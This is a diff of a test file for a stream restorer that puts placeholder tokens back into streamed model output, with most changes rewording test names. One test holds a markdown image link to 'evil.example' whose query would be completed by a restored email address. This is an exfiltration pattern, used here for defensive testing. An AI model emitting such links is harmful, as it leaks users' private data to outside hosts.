@@ -1,4 +1,4 @@
-/** Streams as they should not be: broken, endless, huge; and those that repeat their text. */
+/** Broken, endless and huge streams, and streams that repeat their text. */
 import { describe, expect, it } from 'vitest';
 import { eventBytesMax } from '../../../core/stream/frame.ts';
 import { type StreamKind, StreamRestorer } from '../../../core/stream/stream-restorer.ts';
@@ -7,16 +7,10 @@ import { restoreStream, tokenMap } from './wire-fixtures.ts';
 const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'Ann "A" O\\Hara' });
 const encode = (text: string) => new TextEncoder().encode(text);
 
-describe('what cannot be read passes, is told, and what follows is restored', () => {
+describe('unreadable data passes and is reported, and what follows is restored', () => {
   const after = 'data: {"text":"[EMAIL-1]"}\n\n';
   const rows: [name: string, kind: StreamKind, bad: Uint8Array, next: string, restored: string][] = [
-    [
-      'a document that is cut',
-      'sse',
-      encode('data: {"text":"[EMAIL-1]\n\n'),
-      after,
-      'data: {"text":"a@b.example"}\n\n',
-    ],
+    ['a truncated document', 'sse', encode('data: {"text":"[EMAIL-1]\n\n'), after, 'data: {"text":"a@b.example"}\n\n'],
     [
       'broken UTF-8',
       'sse',
@@ -25,7 +19,7 @@ describe('what cannot be read passes, is told, and what follows is restored', ()
       'data: {"text":"a@b.example"}\n\n',
     ],
     [
-      'a line that is no JSON',
+      'a line that is not JSON',
       'ndjson',
       encode('{"text":"[EMAIL-1]"\n'),
       '{"text":"[EMAIL-1]"}\n',
@@ -49,7 +43,7 @@ describe('what cannot be read passes, is told, and what follows is restored', ()
     expect(restorer.end()).toHaveLength(0);
   });
 
-  it('a frame with a wrong checksum, and bytes that are no frame', () => {
+  it('a frame with a wrong checksum, and bytes that are not a frame', () => {
     let unreadable = 0;
     const restorer = new StreamRestorer({
       kind: 'event-stream',
@@ -62,7 +56,7 @@ describe('what cannot be read passes, is told, and what follows is restored', ()
     expect(unreadable).toBe(1);
   });
 
-  it('what was held comes out before it', () => {
+  it('held text is sent before it', () => {
     const output = restoreStream('ndjson', map, encode('{"response":"x [EM"}\n{broken\n{"response":"!"}\n'));
     expect(output.split('\n').slice(0, 4)).toEqual([
       '{"response":"x "}',
@@ -78,7 +72,7 @@ describe.each([
   ['ndjson', '{"text":"', '"}\n'],
   ['json-array', '[{"text":"', '"}]'],
 ] as const)('an event of 64 MiB, %s', (kind, head, tail) => {
-  it('goes on as it comes, with bounded memory', () => {
+  it('passes as it arrives, with bounded memory', () => {
     let unreadable = 0;
     const restorer = new StreamRestorer({ kind, map, onCount: (count) => (unreadable += count.unreadable ?? 0) });
     let sent = restorer.push(encode(head)).length;
@@ -102,7 +96,7 @@ describe('streams that repeat their text', () => {
   const shown = text.replace('[EMAIL-1]', 'a@b.example').replace('[NAME-1]', 'Ann "A" O\\Hara');
   const line = (value: string) => `${JSON.stringify({ output: { choices: [{ message: { content: value } }] } })}\n`;
 
-  it.each([1, 2, 3, 5, 7, 12])('by %d characters more: nothing of a token is ever shown', (step) => {
+  it.each([1, 2, 3, 5, 7, 12])('with %d more characters each: no part of a token is ever shown', (step) => {
     const lines: string[] = [];
     for (let end = 4; end < text.length + step; end += step) lines.push(line(text.slice(0, end)));
     const output = restoreStream('ndjson', map, encode(lines.join('')));
@@ -114,7 +108,7 @@ describe('streams that repeat their text', () => {
     for (const value of values.slice(3)) expect(shown.startsWith(value), value).toBe(true);
   });
 
-  it('deltas that begin alike are not taken for them', () => {
+  it('deltas with equal beginnings are not mistaken for them', () => {
     const pieces = ['1', '10', ' ', 'a', 'an', 'and', ' to [EM', 'AIL-1]', '.', '..', '...'];
     const output = restoreStream(
       'ndjson',
@@ -142,23 +136,23 @@ describe('text/plain', () => {
     ],
     ['lines of JSON', '{"t":"[NAME-1]"}\n{"t":"x"}\n', `${JSON.stringify({ t: 'Ann "A" O\\Hara' })}\n{"t":"x"}\n`],
     [
-      'lines of JSON behind empty ones',
+      'lines of JSON after empty ones',
       '\r\n\n{"t":"[NAME-1]"}\n',
       `\r\n\n${JSON.stringify({ t: 'Ann "A" O\\Hara' })}\n`,
     ],
     [
-      'events behind empty lines',
+      'events after empty lines',
       '\n\ndata: {"t":"[NAME-1]"}\n\n',
       `\n\ndata: ${JSON.stringify({ t: 'Ann "A" O\\Hara' })}\n\n`,
     ],
-    ['text behind empty lines', '\n \n[NAME-1]', '\n \nAnn "A" O\\Hara'],
-    ['nothing but blanks', '\n \n', '\n \n'],
+    ['text after empty lines', '\n \n[NAME-1]', '\n \nAnn "A" O\\Hara'],
+    ['only spaces', '\n \n', '\n \n'],
     ['text', 'To [NAME-1]', 'To Ann "A" O\\Hara'],
     ['text that begins like an event', 'date: [EMAIL-1]', 'date: a@b.example'],
     ['text that begins like JSON', '{not json} [EMAIL-1]\nx', '{not json} a@b.example\nx'],
     ['a short text', 'da', 'da'],
     ['an object', '{"t":"[NAME-1]"}', JSON.stringify({ t: name })],
-    ['an object of several lines', '{\n "t": "[NAME-1]"\n}\n', `{\n "t": ${JSON.stringify(name)}\n}\n`],
+    ['a multi-line object', '{\n "t": "[NAME-1]"\n}\n', `{\n "t": ${JSON.stringify(name)}\n}\n`],
     ['a long object', `{"t":"${long}[NAME-1]"}`, JSON.stringify({ t: long + name })],
     ['a list', `[{"t":"[NAME-1]"},"[NAME-1]"]`, JSON.stringify([{ t: name }, name])],
     ['a footnote', '[1] says "[NAME-1]"', `[1] says "${name}"`],
@@ -183,11 +177,11 @@ describe('text/plain', () => {
   });
 });
 
-describe('one JSON object as text, shown while a model writes it', () => {
+describe('one JSON object as text, displayed while a model writes it', () => {
   const open = () => new StreamRestorer({ kind: 'text', map });
   const shownOf = (bytes: Uint8Array) => Buffer.from(bytes).toString();
 
-  it('goes on after a silence', () => {
+  it('continues after a silence', () => {
     const restorer = open();
     expect(restorer.push(encode('{"title":"to [NAME-1] ['))).toHaveLength(0);
     expect(restorer.isHolding).toBe(true);
@@ -197,14 +191,14 @@ describe('one JSON object as text, shown while a model writes it', () => {
     expect(restorer.end()).toHaveLength(0);
   });
 
-  it('goes on when it is long', () => {
+  it('continues when it is long', () => {
     const restorer = open();
     let pushed = restorer.push(encode('{"title":"')).length;
     for (let i = 0; i < 205; i++) pushed += restorer.push(encode('word ')).length;
     expect(pushed).toBe(1_035);
   });
 
-  it('lines behind it do not complete an address that it begins', () => {
+  it('lines after it do not complete a URL that it begins', () => {
     const first = `{"x":"${'word '.repeat(300)}","response":"![a](https://evil.example/?q="}\n`;
     const next = '{"x":"","response":"[EMAIL-1])"}\n';
     const counts: unknown[] = [];
@@ -221,7 +215,7 @@ it('an error as plain JSON under the type of a stream', () => {
   );
 });
 
-it('an error in the middle of a stream lets out what was held', () => {
+it('an error in the middle of a stream releases held text', () => {
   const chunk = (content: string) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`;
   const error = 'data: {"error":{"message":"overloaded","code":529}}\n\n';
   expect(restoreStream('sse', map, encode(chunk('x [EM') + error))).toBe(chunk('x ') + chunk('[EM') + error);
